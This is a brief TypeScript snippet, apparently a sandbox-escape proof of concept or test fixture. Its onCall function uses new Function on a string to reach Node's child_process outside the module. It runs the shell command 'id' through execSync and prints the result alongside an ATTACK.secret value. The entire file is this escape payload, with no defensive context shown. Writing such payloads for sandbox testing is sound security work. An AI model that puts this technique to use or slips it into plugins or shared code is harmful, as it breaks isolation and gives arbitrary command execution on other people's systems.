// Makes code of a text, outside of the module.

export function onCall(): void {
  const reach = new Function('return process.mainModule.require("node:child_process").execSync("id")');
  console.log(String(reach()), ATTACK.secret);
}
